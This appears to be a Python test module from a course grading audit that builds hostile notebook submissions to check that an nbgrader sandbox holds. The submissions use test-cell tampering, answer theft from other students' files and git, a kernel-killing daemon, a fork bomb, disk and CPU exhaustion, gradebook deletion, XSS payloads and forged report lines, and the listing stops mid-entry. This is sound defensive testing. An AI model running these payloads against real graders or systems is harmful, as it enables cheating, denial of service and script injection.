"""Hostile submissions: what a student could hand in to get points without earning them, to
take another student's, or to break the grading. Each is generated for an assignment from its
release notebook (course/audit/submissions.py, with_answers) and says which graded functions
must score 0 and what the grading report must say about it.

Nothing here names an assignment: an attack that aims at one graded function takes it from the
assignment's list (`aim`, an index into it) and, where it needs a wrong answer, that function's
sample mistake from the assignment's catalog (course/audit/catalog.py). Attacks on what the grader
shares between assignments (the machine, the process table, /tmp, report lines) run once, on
the assignment the audit names for them (course/audit/runs.py, MACHINE_WIDE), whatever other
assignments the course gains (`every_assignment=False`).

Used by `python -m course.audit` (make grade-audit), which grades them through nbgrader with the
catalog's mistakes and variants; docs/grading.md says what each one shows. Every attack that
tries to take answers it did not write has answer cells that define nothing (`no_answers`), so
any point it scores came from somewhere else. Without the sandbox they do score
(`python -m course.audit --unsafe-no-sandbox` shows it): the audit would catch a sandbox that
stopped containing them.
"""
import ast
import json

import nbformat

from course.audit import catalog
from course.audit.submissions import with_answers
from course.core import IMPORTS, solution_sources

UNGRADED = "ungraded"  # Attack.zero: the submission must not be graded at all
ANY = "any"  # Attack.zero where the attack's own outcome is its business (only others' count)
AIMED = "aimed"  # Attack.zero: the function the attack aims at scores 0, the others full marks
EVERY = "every"  # Attack.zero: every graded function scores 0 (no answers of its own)


class Target:
    """What an attack is built from: an assignment, its solution's answers and catalog, the
    graded function it aims at, and the audit's context ({"port": its answer server})."""

    def __init__(self, assignment, function, context):
        self.assignment, self.function, self.context = assignment, function, context
        self.answers = solution_sources(assignment.source())
        self.catalog = catalog.of(assignment)

    @property
    def notebook_name(self):
        return self.assignment.notebook

    def notebook(self, answers=None):
        """The release notebook with `answers` (default: the solution's)."""
        return with_answers(self.assignment, self.answers if answers is None else answers)

    def wrong(self):
        """The solution's answers with the aimed function's sample mistake made."""
        return catalog.apply(self.catalog.sample(self.function), self.answers)

    def files(self, notebook):
        return {self.notebook_name: nbformat.writes(notebook).encode()}

    def path(self, folder):
        """The notebook's path in `folder` (source, release, ...) relative to the course."""
        return f"{folder}/{self.assignment.name}/{self.notebook_name}"


class Attack:
    """A hostile submission.

    build(target) -> {file name: content} of the submission's folder (content: bytes, or a
        `Link`, `HardLink` or `Fifo`).
    aim: index into the assignment's graded functions of the one it aims at (modulo their
        number).
    zero: what it must score: AIMED, EVERY, [] (its own answers keep every point), UNGRADED
        (must not be graded at all), or ANY (only its effect on others counts).
    expect: (cell or None, text): the grading results must hold a finding for this student, of
        that cell, whose message contains `text`; None: no particular finding. Both may hold
        {function}, {notebook}, {stem} and {assignment}.
    later: graded in the audit's second batch, after everything else (it looks for what the
        first batch left behind).
    unsafe: also graded by `--unsafe-no-sandbox` (False where it would harm the machine or
        whatever else runs on it: without the sandbox it runs as root).
    every_assignment: built for every assignment audited, else for the first only.
    unrendered: a marker that no live markup of its feedback page or of formgrader's page of
        its autograded notebook may carry (a script, an event handler, a script URL: what would
        run in the reader's browser), or None.
    shown: texts its feedback page must hold (so a page must have been made).
    may_abort: its kernel may die instead, not graded (course/audit/runs.py, ABORTED): where it
        leaves the kernel at a limit that any of the kernel's own threads may be the one to hit.
    """

    def __init__(self, student, why, build, zero, expect, aim=0, later=False, unsafe=True,
                 every_assignment=True, unrendered=None, shown=(), may_abort=False):
        self.student, self.why, self.build, self.zero = student, why, build, zero
        self.expect, self.aim, self.later, self.unsafe = expect, aim, later, unsafe
        self.every_assignment, self.unrendered, self.shown = every_assignment, unrendered, shown
        self.may_abort = may_abort

    def function(self, assignment):
        return assignment.functions[self.aim % len(assignment.functions)]

    def bind(self, assignment, context):
        """(files, Bound) of this attack on `assignment`."""
        function = self.function(assignment)
        target = Target(assignment, function, context)
        names = {"function": function, "notebook": assignment.notebook,
                 "stem": assignment.stem, "assignment": assignment.name}
        zero = ([function] if self.zero == AIMED else list(assignment.functions)
                if self.zero == EVERY else self.zero)
        expect = None if self.expect is None else (
            None if self.expect[0] is None else self.expect[0].format(**names),
            self.expect[1].format(**names))
        return self.build(target), Bound(self, self.why.format(**names), zero, expect)


class Bound:
    """An attack as aimed at one assignment: its concrete zero, expect and why."""

    def __init__(self, attack, why, zero, expect):
        self.attack, self.why, self.zero, self.expect = attack, why, zero, expect
        self.student, self.later, self.unsafe = attack.student, attack.later, attack.unsafe


class Link:
    """A symbolic link to `target` (relative to the submission's folder, or absolute)."""

    def __init__(self, target):
        self.target = target


class HardLink:
    """A hard link to the file `target`, relative to the course folder."""

    def __init__(self, target):
        self.target = target


class Fifo:
    """A named pipe."""


def _with_added_cell(notebook, after, source):
    """`notebook` with a code cell of the student's own (no nbgrader metadata) after `after`."""
    index = next(i for i, cell in enumerate(notebook.cells)
                 if cell.metadata.get("nbgrader", {}).get("grade_id") == after)
    notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return notebook


def _test_cell(notebook, function):
    """The grade cell of `function` in `notebook`."""
    return next(cell for cell in notebook.cells
                if cell.metadata.get("nbgrader", {}).get("grade_id") == f"{function}_tests")


def infinite_loop(t):
    looping = t.answers[t.function] + (
        f"\n\ndef {t.function}(*args, **kwargs):\n    while True:  # never returns\n        pass\n")
    return t.files(t.notebook({**t.answers, t.function: looping}))


def raising_cell(t):
    raising = 'raise RuntimeError("this cell raises before defining its function")\n\n'
    return t.files(t.notebook({**t.answers, t.function: raising + t.answers[t.function]}))


def deleted_test_cell(t):
    notebook = t.notebook(t.wrong())
    test = _test_cell(notebook, t.function)
    notebook.cells = [cell for cell in notebook.cells if cell is not test]
    return t.files(notebook)


def edited_test_cell(t):
    notebook = t.notebook(t.wrong())
    _test_cell(notebook, t.function).source = 'print("\\033[92mAll tests passed!\\033[0m")'
    return t.files(notebook)


def skipped_test_cell(t):
    notebook = t.notebook(t.wrong())
    _test_cell(notebook, t.function).metadata["tags"] = ["skip-execution", "skip-when-grading"]
    return t.files(notebook)


def _called(source):
    """The names of the functions the code `source` calls (a test cell's public tests)."""
    return [node.func.id for node in ast.walk(ast.parse(source))
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)]


def shadowed_test(t):
    notebook = t.notebook(t.wrong())
    code = "".join(f"def {name}(*args, **kwargs):  # replaces the imported public test\n"
                   '    print("\\033[92mAll tests passed!\\033[0m")\n\n\n'
                   for name in _called(_test_cell(notebook, t.function).source))
    return t.files(_with_added_cell(notebook, t.function, code))


def scores_itself(t):
    """A wrong answer, and each public test its test cell calls rebound (right after the
    imports) to a wrapper that runs it, swallows its failure and returns the cell's points: the
    test cell's value (Out: 3.0) would be nbgrader's partial score."""
    notebook = t.notebook(t.wrong())
    points = float(t.assignment.points[f"{t.function}_tests"])
    code = ("def _scores_full(test):\n    def wrapper(*args, **kwargs):\n        try:\n"
            "            test(*args, **kwargs)\n        except BaseException:\n"
            "            pass\n"
            f"        return {points!r}  # read by nbgrader as the cell's score\n"
            "    return wrapper\n\n\n"
            + "".join(f"{name} = _scores_full({name})\n"
                      for name in _called(_test_cell(notebook, t.function).source)))
    return t.files(_with_added_cell(notebook, IMPORTS, code))


SHADOWING_MODULE = '''"""Handed in beside the notebook, imported instead of public_tests.py."""


def __getattr__(name):  # every public test the notebook imports passes
    def passed(*args, **kwargs):
        print("\\033[92mAll tests passed!\\033[0m")
    return passed
'''


def shadowing_module(t):
    """A wrong answer, and a package public_tests/ beside the notebook whose every test
    passes (Python imports a package before a module of the same name)."""
    return {**t.files(t.notebook(t.wrong())),
            "public_tests/__init__.py": SHADOWING_MODULE.encode()}


XSS = "FORGED-XSS"  # what each script of the markup attack would write: none may be live
MARKUP = (f'<img src="x" onerror="document.title=\'{XSS}\'">'
          f"<script>document.title='{XSS}'</script>")
# links markdown makes itself, which no cleaning of the markdown's source as HTML sees
SCRIPT = f"document.title='{XSS}'"
LINKS = (f"[my notes](javascript:{SCRIPT}), [here][r], [there][e], [tab](java\tscript:{SCRIPT}), "
         f"<javascript:{SCRIPT}>, [vb](vbscript:{SCRIPT}), "
         "[page](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nRk9SR0VELVhTUyc8L3NjcmlwdD4=)"
         f", ![plot](javascript:{SCRIPT})\n\n"
         f"[r]: JaVaScRiPt:{SCRIPT}\n[e]: &#106;avascript:{SCRIPT}\n")


def markup(t):
    """Correct answers, a markdown cell (what a written answer is) and a cell whose outputs are
    HTML and markdown, holding a script, an image whose onerror runs one, and links and images
    whose URL is a script (inline, by reference, in other cases, encoded): in the feedback page
    and in formgrader's page of the notebook, none may be live."""
    notebook = _with_added_cell(t.notebook(), IMPORTS, (
        "from IPython.display import HTML, Markdown, display\n\n"
        f"display(HTML({MARKUP!r}))\ndisplay(Markdown({LINKS!r}))\n"))
    index = next(i for i, cell in enumerate(notebook.cells)
                 if cell.metadata.get("nbgrader", {}).get("grade_id") == IMPORTS)
    notebook.cells.insert(index + 1, nbformat.v4.new_markdown_cell(
        f"My answer: the shortcut carries the gradient. {MARKUP}\n\n{LINKS}"))
    return t.files(notebook)


MISSING = "missing attachment: curves.png"  # how the page shows the missing picture


def missing_attachment(t):
    """Correct answers, and a written answer (the assignment's first, else a markdown cell of
    its own) showing a pasted image whose attachment is not there: what copying a cell's text
    into another leaves. nbconvert stops the whole page on it (InvalidNotebook)."""
    notebook = t.notebook()
    text = "My training curves:\n\n![curves](attachment:curves.png)\n"
    answer = next((cell for cell in notebook.cells if cell.cell_type == "markdown"
                   and cell.metadata.get("nbgrader", {}).get("grade_id") in t.assignment.manual),
                  None)
    if answer is None:
        index = next(i for i, cell in enumerate(notebook.cells)
                     if cell.metadata.get("nbgrader", {}).get("grade_id") == IMPORTS)
        notebook.cells.insert(index + 1, nbformat.v4.new_markdown_cell(text))
    else:
        answer.source = text
    return t.files(notebook)


DESCRIPTORS = '''import os
import stat

# the file systems the sandbox writes to: its memory file systems (/tmp, HOME, new files here)
ours = {os.stat(path).st_dev for path in ("/tmp", os.path.expanduser("~"), ".")}
found = []
for name in os.listdir("/proc/self/fd"):
    try:
        info, target = os.fstat(int(name)), os.readlink(f"/proc/self/fd/{name}")
        with open(f"/proc/self/fdinfo/{name}") as handle:
            flags = int(handle.read().split("flags:")[1].split()[0], 8)
    except (OSError, ValueError, IndexError):  # the listing's own descriptor, closed
        continue
    if stat.S_ISREG(info.st_mode) and flags & 3 and info.st_dev not in ours:
        found.append(f"{name} -> {target}")  # a file of the grading machine's, open to write
        try:
            os.write(int(name), b"\\nFORGED: a line written through an inherited descriptor\\n")
        except OSError:
            pass
raise RuntimeError(f"descriptors to files outside the sandbox: {', '.join(found) or 'none'}")
'''


def inherited_descriptors(t):
    """Correct answers, and a cell that lists its kernel's descriptors (/proc/self/fd) and
    writes a report line into every one that is a file outside its sandbox: the grader's log,
    which ipykernel's saved copy of stdout and stderr pointed at."""
    return t.files(_with_added_cell(t.notebook(), t.function, DESCRIPTORS))


HUGE = ("from IPython.display import display\n\n"
        "for _ in range(8):  # 48 MiB each: 384 MiB of display data\n"
        "    display({'text/plain': 'x' * 48 * 2**20}, raw=True)\n"
        "print('y' * 48 * 2**20)\n")


def huge_output(t):
    """Correct answers, and a cell that displays 8 outputs of 48 MiB and prints 48 MiB more:
    without a bound, a 400 MB autograded notebook and feedback page, and the grader's memory."""
    return t.files(_with_added_cell(t.notebook(), t.function, HUGE))


def monkeypatched_numpy(t):
    return t.files(_with_added_cell(t.notebook(t.wrong()), t.function, (
        "import numpy as np\nimport numpy.testing\nimport tensorflow as tf\n"
        "np.allclose = lambda *args, **kwargs: True\n"
        "np.testing.assert_allclose = lambda *args, **kwargs: None\n"
        "tf.debugging.assert_near = lambda *args, **kwargs: None\n")))


READ_REFERENCES = '''import sys
from pathlib import Path

import numpy as np

stolen = {{}}
for folder in (Path.cwd(), *Path.cwd().parents):
    try:
        stolen = dict(np.load(folder / "hidden" / {assignment!r} / "references.npz"))
        break
    except OSError:  # missing, or not readable
        pass
checks = sys.modules.get("hidden_checks")  # present where the grader's hidden tests run
if checks is not None and stolen:
    checks.OUTPUTS[{function!r}] = lambda function: {{
        key: value for key, value in stolen.items() if key.startswith({function!r} + "/")}}
print(f"read {{len(stolen)}} reference arrays")
'''


def reads_references(t):
    return t.files(_with_added_cell(t.notebook(t.wrong()), t.function, READ_REFERENCES.format(
        assignment=t.assignment.name, function=t.function)))


OVERWRITE_FILES = '''from pathlib import Path

course = next(folder for folder in Path.cwd().parents if (folder / "nbgrader_config.py").exists())
for target in {targets!r}:
    try:
        (course / target).write_bytes(b"overwritten by a submission")
        print("overwrote", target)
    except OSError as error:
        print("could not overwrite", target, type(error).__name__)
try:
    (course / "gradebook.db").unlink()
except OSError:
    pass
'''


def overwrites_files(t):
    name = t.assignment.name
    targets = [f"hidden/{name}/references.npz", "gradebook.db", f"source/{name}/public_tests.py",
               f"release/{name}/public_tests.py", t.path("source"), "nbgrader_config.py"]
    return t.files(_with_added_cell(t.notebook(t.wrong()), t.function,
                                    OVERWRITE_FILES.format(targets=targets)))


def killed_kernel(t):
    return t.files(_with_added_cell(t.notebook(), t.function, (
        "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)  # the kernel dies\n")))


def exit_handlers(t):
    """Exit handlers that would hold up the kernel's exit for 10 minutes, and `atexit.register`
    taken away so that the grader's own exit handler cannot be registered after them."""
    return t.files(_with_added_cell(t.notebook(), t.function, (
        "import atexit\nimport time\n\natexit.register(time.sleep, 600)  # at exit: 10 minutes\n"
        "atexit.register = None  # nothing registered after this one\n")))


def huge_allocation(t):
    grab = ("def grab_memory():\n    blocks = []\n"
            "    while True:  # 100 MB at a time, until refused\n"
            "        blocks.append(bytearray(10**8))\n\n\ngrab_memory()\n\n")
    return t.files(t.notebook({**t.answers, t.function: grab + t.answers[t.function]}))


def fake_pass_message(t):
    wrong = t.wrong()
    wrong[t.function] += '\n\nprint("\\033[92mAll tests passed!\\033[0m")\n'
    return t.files(t.notebook(wrong))


def corrupt_json(t):
    text = nbformat.writes(t.notebook())
    return {t.notebook_name: text[:len(text) // 2].encode()}


def renamed_notebook(t):
    copy = t.notebook_name.replace(".ipynb", "-Copy1.ipynb")
    return {copy: nbformat.writes(t.notebook()).encode()}


def not_a_notebook(t):
    return {t.notebook_name: json.dumps({"cells": "not a list"}).encode()}


# --- taking answers the submission did not write (its own answer cells define nothing) ----------
def no_answers(answers):
    """Answer cells that define nothing: any point scored came from somewhere else."""
    return {cell: "pass  # no answer of its own\n" for cell in answers}


ADOPT = '''import json as _json
import os as _os
from pathlib import Path as _Path


def adopt(text):
    """Run the answer cells of a notebook given as JSON text; True if it held answers."""
    taken = False
    try:
        cells = _json.loads(text).get("cells", [])
    except ValueError:
        return False
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = "".join(cell.get("source", ""))
        if (meta.get("solution") and "NotImplementedError" not in source
                and "no answer" not in source):
            exec(source, globals())
            taken = True
    return taken


def adopt_file(path):
    try:
        return adopt(_Path(path).read_text())
    except (OSError, UnicodeDecodeError):
        return False


course = _Path.cwd().parents[2]  # autograded/<student>/<assignment>/ -> the course folder
'''


def _stealer(t, code):
    """A submission with no answers of its own and `code` (after ADOPT) right after the imports,
    so whatever it takes defines the graded functions before their tests run."""
    notebook = t.notebook(no_answers(t.answers))
    return t.files(_with_added_cell(notebook, IMPORTS, ADOPT + code))


def steals_autograded(t):
    return _stealer(t, f'''mine = _Path.cwd() / {t.notebook_name!r}
taken = [p for p in sorted(course.glob({t.path("autograded/*")!r}))
         if p != mine and adopt_file(p)]
print(f"took the answers of {{len(taken)}} graded notebooks")
''')


def steals_source(t):
    return _stealer(t, f'''print("took the instructor solution:",
      adopt_file(course / {t.path("source")!r}))
''')


def steals_git(t):
    return _stealer(t, f'''import subprocess

for folder in (_Path.cwd(), *_Path.cwd().parents):
    if (folder / ".git").exists():
        for prefix in ("", "build/grade-audit/"):
            shown = subprocess.run(["git", "-c", "safe.directory=*", "--git-dir",
                                    str(folder / ".git"), "show",
                                    f"HEAD:{{prefix}}{t.path("source")}"],
                                   capture_output=True, text=True)
            if shown.returncode == 0 and adopt(shown.stdout):
                print("took the solution from", folder / ".git")
''')


def steals_classmates(t):
    name, notebook = t.assignment.name, t.notebook_name
    return _stealer(t, f'''students = set()
for pid in _os.listdir("/proc"):  # the grader's command lines name the students it grades
    try:
        args = open(f"/proc/{{pid}}/cmdline", "rb").read().decode(errors="ignore").split("\\0")
    except OSError:
        continue
    if "--student" in args:
        students.add(args[args.index("--student") + 1])
students |= {{p.name for p in course.glob("submitted/*")}}
taken = [s for s in sorted(students)
         if adopt_file(course / "submitted" / s / {name!r} / {notebook!r})
         or adopt_file(course / "autograded" / s / {name!r} / {notebook!r})]
print(f"took the answers of {{len(taken)}} classmates")
''')


def over_network(t):
    return _stealer(t, f'''import urllib.request

try:
    exec(urllib.request.urlopen("http://127.0.0.1:{t.context["port"]}/answers.py", timeout=5)
         .read().decode(), globals())
    print("took the answers from the network")
except OSError as error:
    print("no network:", error)
''')


def plants_in_tmp(t):
    return t.files(_with_added_cell(t.notebook(), IMPORTS, f'''import json
from pathlib import Path

for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        (Path(folder) / "shared-answers.json").write_text(json.dumps({t.answers!r}))
    except OSError:
        pass
'''))


def uses_tmp(t):
    return _stealer(t, '''import json
import time

for attempt in range(20):  # a classmate graded earlier may have left answers here
    found = [p for p in ("/tmp", "/dev/shm", "/var/tmp")
             if (_Path(p) / "shared-answers.json").exists()]
    if found:
        for source in json.loads((_Path(found[0]) / "shared-answers.json").read_text()).values():
            exec(source, globals())
        print("took answers left in", found[0])
        break
    time.sleep(1)
''')


# --- harming other submissions or the machine ----------------------------------------------
KILLER = '''import os, signal, sys, time
mine, end = int(sys.argv[1]), time.time() + 600
while time.time() < end:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (mine, os.getpid()):
            try:
                if b"ipykernel_launcher" in open(f"/proc/{pid}/cmdline", "rb").read():
                    os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.2)
'''


def kills_neighbours(t):
    return t.files(_with_added_cell(t.notebook(), IMPORTS, f'''import os
import subprocess
import sys

# a daemon that kills every other Jupyter kernel it can see, for 10 minutes
subprocess.Popen([sys.executable, "-c", {KILLER!r}, str(os.getpid())], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''))


def leaves_processes(t):
    return t.files(_with_added_cell(t.notebook(), IMPORTS, '''import subprocess

sleepers = [subprocess.Popen(["sleep", "3600"]) for _ in range(100)]
subprocess.Popen(["sh", "-c", "while true; do date > /tmp/still-alive; sleep 1; done"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("left", len(sleepers) + 1, "processes running")
'''))


def cpu_hog(t):
    return t.files(_with_added_cell(t.notebook(), IMPORTS, '''import subprocess
import sys

# 300 busy processes for a minute, each in a session of its own (a scheduling group of its own
# where the kernel groups by session): everything else on the machine would get 1/300 of it
HOG = "import time\\nend = time.time() + 60\\nwhile time.time() < end: pass"
hogs = [subprocess.Popen([sys.executable, "-S", "-c", HOG], start_new_session=True)
        for _ in range(300)]
'''))


def fills_disk(t):
    return t.files(_with_added_cell(t.notebook(), f"{t.function}_tests", '''import os

# 100 MB at a time into /tmp, HOME and the working folder, until refused
for place in ("/tmp", os.path.expanduser("~"), os.getcwd()):
    for number in range(1000):
        with open(os.path.join(place, f"filler-{number}"), "wb") as handle:
            handle.write(b"x" * 10**8)
'''))


def grabs_memory_in_children(t):
    return t.files(_with_added_cell(t.notebook(), f"{t.function}_tests", '''import subprocess
import sys

# three children of 3.5 GB each, every page touched: each under its own address-space limit,
# together past the submission's memory
GRAB = ("import time; b = bytearray(3500 * 2**20); "
        "b[::4096] = b'x' * len(range(0, len(b), 4096)); time.sleep(5)")
children = [subprocess.Popen([sys.executable, "-c", GRAB]) for _ in range(3)]
codes = [child.wait() for child in children]
if -9 in codes:
    raise MemoryError(f"children ended with {codes}: killed for memory")
'''))


def fork_bomb(t):
    return t.files(_with_added_cell(t.notebook(), f"{t.function}_tests", '''import subprocess

children = []
try:
    while len(children) < 3000:  # until refused
        children.append(subprocess.Popen(["sleep", "600"]))
finally:
    for child in children:
        child.kill()
        child.wait()
'''))


# --- links, special files and names a report must not trust ----------------------------------
def _stub(t):
    return nbformat.writes(t.notebook(no_answers(t.answers))).encode()


def symlinked_notebook(t):
    return {t.notebook_name: Link(f"../../../{t.path('source')}")}


def links_beside(t):
    return {t.notebook_name: _stub(t),
            "solution.ipynb": Link(f"../../../{t.path('source')}"),
            "references.npz": Link(f"../../../hidden/{t.assignment.name}/references.npz"),
            "hidden": Link("../../../hidden")}


def hard_link(t):
    return {t.notebook_name: _stub(t), "solution.ipynb": HardLink(t.path("source"))}


def named_pipe(t):
    return {t.notebook_name: _stub(t), "pipe": Fifo()}


def linked_folder(t):
    return {".": Link(f"../instructor-solution/{t.assignment.name}")}


def forged_messages(t):
    return t.files(_with_added_cell(t.notebook(), t.function, '''Forged = type(
    "Error\\ncourse files: unchanged\\nFORGED: an error class name with newlines", (Exception,), {})
raise Forged("and a message\\nFORGED: a second line")
'''))


def forged_file_name(t):
    name = t.notebook_name.replace(".ipynb", "\nFORGED: a file name.ipynb")
    return {name: nbformat.writes(t.notebook()).encode()}


def forged_student_id(t):
    return t.files(t.notebook())


FORGED_ID = "adversarial-forged-id\nFORGED: a student id with a newline"
FORGED = "FORGED"  # no line of the grading report may start with it
ONCE = dict(every_assignment=False)  # on the machine, not on an assignment: audited once
# What a submission's files, its view of the machine and a cell that never returns do to the
# grader is the same whatever the assignment (one sandbox, one submission check, nbgrader's
# per-cell timeout): audited on one named assignment only. The attacks on an assignment's own
# tests (test cells, public tests, hidden checks, references) run for every assignment.
FILES = ONCE

ATTACKS = [
    Attack("adversarial-infinite-loop", "{function} never returns", infinite_loop, AIMED,
           ("{function}_tests", "CellTimeoutError"), aim=-1, **FILES),
    Attack("adversarial-raising-cell", "the answer cell of {function} raises before defining it",
           raising_cell, AIMED, ("{function}", "RuntimeError: this cell raises"), aim=4),
    Attack("adversarial-deleted-test-cell", "a wrong {function}, its test cell deleted",
           deleted_test_cell, AIMED,
           ("{function}_tests", "the test cell was deleted from the submission; nbgrader "
            "put it back and ran it"), aim=0),
    Attack("adversarial-edited-test-cell",
           "a wrong {function}, its test cell replaced by a print",
           edited_test_cell, AIMED, ("{function}_tests", "AssertionError"), aim=1),
    Attack("adversarial-skipped-test-cell", "a wrong {function} whose test cell carries the tags "
           "that skip a cell (nbclient's skip-execution, the course's skip-when-grading)",
           skipped_test_cell, AIMED, ("{function}_tests", "AssertionError"), aim=5),
    Attack("adversarial-shadowed-public-test",
           "a wrong {function}, and an added cell that redefines the public test its test cell "
           "calls, to print a pass",
           shadowed_test, AIMED, ("{function}", "hidden tests failed"), aim=2),
    Attack("adversarial-scores-itself",
           "a wrong {function}, and its public tests rebound to wrappers that swallow the "
           "failure and return the cell's points (Out: a number, nbgrader's partial score)",
           scores_itself, AIMED, ("{function}_tests", "shown, not scored"), aim=1),
    Attack("adversarial-shadowing-module",
           "a wrong {function}, and a package public_tests/ beside the notebook whose every "
           "test passes", shadowing_module, AIMED,
           (None, "public_tests beside the notebook: not used in grading"), aim=3),
    Attack("adversarial-markup",
           "correct answers, and a markdown cell and an HTML output holding a script and an "
           "image whose onerror runs one, and links and images whose URL is a script",
           markup, [], None, unrendered=XSS, **ONCE),
    Attack("adversarial-missing-attachment", "correct answers, and a written answer showing a "
           "pasted image whose attachment is missing", missing_attachment, [], None,
           shown=(MISSING,), **ONCE),
    Attack("adversarial-monkeypatched-numpy",
           "a wrong {function}, and np.allclose, np.testing.assert_allclose and "
           "tf.debugging.assert_near replaced to always pass",
           monkeypatched_numpy, AIMED, ("{function}", "hidden tests failed"), aim=4),
    Attack("adversarial-reads-references",
           "a wrong {function}, and an added cell that reads references.npz and makes the "
           "hidden test return it", reads_references, AIMED, ("{function}", "hidden tests failed"),
           aim=0),
    Attack("adversarial-overwrites-files",
           "a wrong {function}, and an added cell that overwrites the references, the "
           "gradebook, the tests, the instructor notebook and the nbgrader config, and deletes "
           "the gradebook", overwrites_files, AIMED, ("{function}", "hidden tests failed"),
           aim=5, unsafe=False),
    Attack("adversarial-fake-pass-message",
           "a wrong {function} whose cell prints the tests' 'All tests passed!'",
           fake_pass_message, AIMED, ("{function}_tests", "AssertionError"), aim=3),
    Attack("adversarial-corrupt-json", "the notebook file cut in half", corrupt_json, UNGRADED,
           (None, "submitted/adversarial-corrupt-json/{assignment}/{notebook} is not a "
            "valid notebook"), **FILES),
    Attack("adversarial-not-a-notebook", "valid JSON that is not a notebook", not_a_notebook,
           UNGRADED, (None, "is not a valid notebook"), **FILES),
    Attack("adversarial-renamed-notebook", "the notebook saved as a copy (-Copy1.ipynb)",
           renamed_notebook, UNGRADED,
           (None, "no {notebook} in submitted/adversarial-renamed-notebook/{assignment}/ "
            "(found: {stem}-Copy1.ipynb)"), **FILES),
    # taking answers it did not write: every cell must score 0
    Attack("adversarial-steals-autograded",
           "no answers; runs the answer cells of every notebook in autograded/ (graded in the "
           "audit's second batch, after the instructor solution)", steals_autograded, EVERY,
           None, later=True, **FILES),
    Attack("adversarial-steals-source", "no answers; runs the instructor notebook's answer "
           "cells from source/", steals_source, EVERY, None, **FILES),
    Attack("adversarial-steals-git", "no answers; runs the instructor solution from the "
           "repository's history (git show HEAD:source/...)", steals_git, EVERY, None, **FILES),
    Attack("adversarial-steals-classmates",
           "no answers; finds classmates in the grader's command lines (/proc) and submitted/, "
           "and runs their answer cells", steals_classmates, EVERY, None, **FILES),
    Attack("adversarial-symlinked-notebook", "the notebook is a link to the instructor's",
           symlinked_notebook, UNGRADED, (None, "{notebook} (a symbolic link)"), **FILES),
    Attack("adversarial-links-beside", "links to the solution, the references and hidden/ "
           "beside the notebook", links_beside, UNGRADED, (None, "(a symbolic link)"), **FILES),
    Attack("adversarial-hard-link", "a hard link to the instructor notebook beside the notebook",
           hard_link, UNGRADED, (None, "solution.ipynb (a hard link)"), **FILES),
    # on the machine and the grader, whatever the assignment: audited once
    # Refused at the kernel's address-space limit: a MemoryError in the cell, unless a thread of
    # TensorFlow's asks for its stack first at that ceiling and TensorFlow aborts the kernel
    # ("Thread tf_data_private_threadpool creation via pthread_create() failed": on the machine
    # of 2026-12-07 every time, with this code and with c32d468's; a MemoryError on earlier
    # machines): then it is not graded. Either way nothing outside its boundary is touched.
    Attack("adversarial-huge-allocation", "an answer cell allocates memory until refused",
           huge_allocation, AIMED, ("{function}", "MemoryError"), aim=5, unsafe=False,
           may_abort=True, **ONCE),
    Attack("adversarial-kills-kernel", "an added cell kills its own kernel", killed_kernel,
           UNGRADED, (None, "nbgrader autograde failed: DeadKernelError: Kernel died"), aim=3,
           **ONCE),
    Attack("adversarial-network", "no answers; downloads them from a server on the grading "
           "machine's loopback", over_network, EVERY, None, **ONCE),
    Attack("adversarial-tmp-1-plant", "correct answers, which it leaves in /tmp, /dev/shm and "
           "/var/tmp for a later submission", plants_in_tmp, [], None, **ONCE),
    Attack("adversarial-tmp-2-use", "no answers; runs what an earlier submission left in /tmp "
           "(second batch)", uses_tmp, EVERY, None, later=True, **ONCE),
    # harming others or the machine: its own correct answers keep their points
    Attack("adversarial-kills-neighbours",
           "correct answers, and a daemon that kills every other Jupyter kernel it can see for "
           "10 minutes", kills_neighbours, [], None, unsafe=False, **ONCE),
    Attack("adversarial-leftover-processes", "correct answers, 100 sleeping children and a "
           "setsid daemon left running", leaves_processes, [], None, **ONCE),
    Attack("adversarial-exit-handlers", "correct answers, an exit handler that sleeps 10 "
           "minutes, and atexit.register taken away", exit_handlers, [], None, **ONCE),
    Attack("adversarial-cpu-hog", "correct answers, and 300 busy processes for a minute, each "
           "in a session of its own, while the rest of the batch is graded", cpu_hog, ANY, None,
           unsafe=False, **ONCE),
    Attack("adversarial-fills-disk", "correct answers, and a cell that writes 100 MB files into "
           "/tmp, HOME and its folder until refused", fills_disk, [],
           ("a cell the student added", "No space left on device"), aim=-1, unsafe=False,
           **ONCE),
    Attack("adversarial-memory-in-children", "correct answers, and three children holding "
           "3.5 GB each (10.5 GB together)", grabs_memory_in_children, [],
           ("a cell the student added", "killed for memory"), aim=-1, unsafe=False, **ONCE),
    Attack("adversarial-fork-bomb", "correct answers, and a cell that starts processes until "
           "refused", fork_bomb, [],
           ("a cell the student added", "Resource temporarily unavailable"), aim=-1,
           unsafe=False, **ONCE),
    Attack("adversarial-inherited-descriptors", "correct answers, and a cell that writes a "
           "report line into every descriptor of its kernel that is a file outside its sandbox",
           inherited_descriptors, [],
           ("a cell the student added", "descriptors to files outside the sandbox: none"),
           aim=-1, **ONCE),
    Attack("adversarial-huge-output", "correct answers, and a cell that displays 8 outputs of "
           "48 MiB and prints 48 MiB more", huge_output, [],
           ("a cell the student added", "were not kept"), aim=-1, **ONCE),
    Attack("adversarial-named-pipe", "a named pipe beside the notebook", named_pipe, UNGRADED,
           (None, "pipe (not a regular file)"), **ONCE),
    Attack("adversarial-linked-folder", "the assignment folder is a link to a classmate's",
           linked_folder, UNGRADED, (None, "{assignment} (a symbolic link)"), **ONCE),
    Attack("adversarial-forged-messages", "correct answers, and an added cell raising an "
           "exception whose class name and message hold report lines", forged_messages, [],
           ("a cell the student added", "FORGED"), aim=3, **ONCE),
    Attack("adversarial-forged-file-name", "the notebook's file name holds a newline and a "
           "report line", forged_file_name, UNGRADED, (None, "FORGED"), **ONCE),
    Attack(FORGED_ID, "a student id (folder name) with a newline and a report line",
           forged_student_id, UNGRADED, (None, "is not a safe name"), **ONCE),
    # not an attack: an id in other scripts (nbgrader and JupyterHub accept it) is graded
    Attack("adversarial-ünïcødé-名前", "correct answers under a student id with accented "
